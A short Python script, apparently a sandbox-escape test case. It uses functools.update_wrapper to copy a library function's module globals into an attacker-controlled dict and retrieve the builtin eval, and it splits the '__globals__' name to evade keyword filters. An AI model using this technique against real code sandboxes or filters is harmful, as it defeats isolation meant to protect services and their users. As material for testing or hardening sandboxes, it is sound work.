"""functools.update_wrapper pours a function's globals into a dict that __getattr__ hands out."""
import functools
import textwrap

found = {}


class Wrapper:
    def __getattr__(self, name):
        return found


functools.update_wrapper(Wrapper(), textwrap.dedent, (), ("__glo" + "bals__",))
print("ESCAPED:update_wrapper_pours", found["__builtins__"]["eval"])
